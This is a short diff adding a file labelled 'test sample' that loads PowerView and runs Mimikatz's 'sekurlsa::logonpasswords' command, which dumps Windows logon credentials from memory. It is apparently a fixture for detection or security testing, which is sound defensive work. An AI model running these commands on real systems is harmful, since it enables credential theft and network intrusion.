@@ -1,0 +1,3 @@
+# test sample
+Import-Module .\PowerView.ps1
+Invoke-Mimikatz -Command "sekurlsa::logonpasswords"
